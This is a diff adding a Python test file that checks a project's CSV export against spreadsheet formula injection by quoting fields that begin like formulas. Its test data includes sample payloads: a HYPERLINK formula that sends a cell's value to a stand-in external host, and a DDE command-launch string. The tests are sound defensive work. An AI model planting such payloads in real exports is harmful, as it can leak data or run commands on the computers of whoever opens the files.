@@ -1,0 +1,121 @@
+"""CSV: one place writes it, and no field of a table is a formula to a spreadsheet."""
+
+from __future__ import annotations
+
+import ast
+import csv
+import io
+import json
+from pathlib import Path
+
+import numpy as np
+import pytest
+
+from probcal.csv_text import as_it_was, csv_text, data_text
+from probcal.store import CellResult, Store
+from tests.commands import probcal
+
+ROOT = Path(__file__).parents[1]
+WRITERS = {"writer", "DictWriter", "to_csv", "savetxt"}
+"""Names of what writes delimited text: in csv, pandas and numpy."""
+OTHERS = {
+    "probcal/csv_text.py": "is that place",
+    "benchmarks/weka_command_line.py": "writes the rows of an ARFF file for Weka's own command line",
+}
+OF_DATA = {"probcal/own_table/card_text.py": "writes rows of data, from which the very values are read again"}
+FORMULA = '=HYPERLINK("http://elsewhere.example/?x="&A1,"click")'
+LABELS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx", "  =1+1", "\uff1d1"]
+
+
+def calls(wanted):
+    """File -> the names among ``wanted`` that it calls."""
+    found = {}
+    for part in ("probcal", "benchmarks", "reliability", "docs"):
+        for path in (ROOT / part).rglob("*.py"):
+            names = {
+                node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
+                for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
+                if isinstance(node, ast.Call)
+            }
+            if names & wanted:
+                found[path.relative_to(ROOT).as_posix()] = names & wanted
+    return found
+
+
+def test_nothing_else_writes_csv():
+    assert set(calls(WRITERS)) == set(OTHERS)
+
+
+def test_no_script_of_a_page_offers_csv():
+    pages = [*(ROOT / "probcal/report/templates").rglob("*"), *(ROOT / "probcal/report/assets").glob("*.js")]
+    assert pages and not [path for path in pages if path.is_file() and "text/csv" in path.read_text(encoding="utf-8")]
+
+
+def test_only_rows_of_data_are_written_as_they_are():
+    assert set(calls({"data_text"})) == set(OF_DATA)
+
+
+@pytest.mark.parametrize("text", LABELS)
+def test_a_text_that_begins_like_a_formula_gets_a_quote(text):
+    [[field]] = csv.reader(io.StringIO(csv_text([[text]]), newline=""))
+    assert field == "'" + text
+    assert as_it_was(field) == text
+
+
+@pytest.mark.parametrize("number", ["-0.5", "+3", "-1e-05", "-inf", ".5", "0.3 - 0.4", "- 0.326", "-", "-0.5 -1"])
+def test_numbers_stay_as_they_are(number):
+    assert csv_text([[number]]) == number + "\n"
+
+
+@pytest.mark.parametrize("value", [-0.5, float("-inf"), np.float64(-2), -3, None, True])
+def test_values_that_are_no_text_stay_as_they_are(value):
+    assert "'" not in csv_text([[value, "x"]])
+
+
+@pytest.mark.parametrize("text", ["Adult", "it's", "'tis", "'=1", "''=1", "a=b", "", "J48 - bagged"])
+def test_what_was_written_comes_back(text):
+    [[field, _]] = csv.reader([csv_text([[text, "x"]])])
+    assert as_it_was(field) == text
+
+
+def test_data_are_written_as_they_are():
+    assert data_text([["=1", "-", "+"]]) == "=1,-,+\n"
+
+
+@pytest.fixture
+def hostile(tmp_path):
+    """Results whose experiment, title, labels and groups are formulas."""
+    store = Store(tmp_path / "results")
+    columns = [
+        {"learner": "tree", "method": method, "label": FORMULA, "group": FORMULA, "settings": {}}
+        for method in ("direct", "probing")
+    ]
+    with store.writing(FORMULA):
+        store.write_experiment(
+            {"name": FORMULA, "title": FORMULA, "paper": None, "metrics": ["rms"], "columns": columns,
+             "datasets": [{"name": "adult", "title": FORMULA}], "repetitions": {"adult": 3}}
+        )  # fmt: skip
+        for method, rms in (("direct", 0.3), ("probing", 0.2)):
+            for split in range(3):
+                metrics = {"rms": rms + split / 100}
+                store.add(
+                    CellResult("adult", split, "tree", method, "done", "run", 1.0, metrics=metrics, n_train=9, n_test=9)
+                )
+    return store.folder
+
+
+@pytest.mark.parametrize("command", ["table", "compare"])
+def test_no_field_of_a_command_is_a_formula(hostile, command):
+    done = probcal(command, hostile, "-f", "csv")
+    assert done.exit_code == 0, done.output
+    assert "HYPERLINK" in done.stdout
+    fields = [field for row in csv.reader(io.StringIO(done.stdout)) for field in row]
+    assert not [field for field in fields if field.startswith(("=", "+", "@"))]
+
+
+def test_accepted_numbers_come_back_from_names_and_gaps_of_any_kind(hostile):
+    kept = [json.loads(line) for line in (hostile / "cells.jsonl").read_text().splitlines()]
+    (hostile / "cells.jsonl").write_text("".join(json.dumps(row) + "\n" for row in kept if row["repetition"]))
+    assert probcal("check", hostile, "--accept").exit_code == 0
+    assert "adult,tree,direct,rms,- 0.31 0.32\n" in (hostile / "accepted.csv").read_text()
+    assert "out of band" not in probcal("check", hostile).output
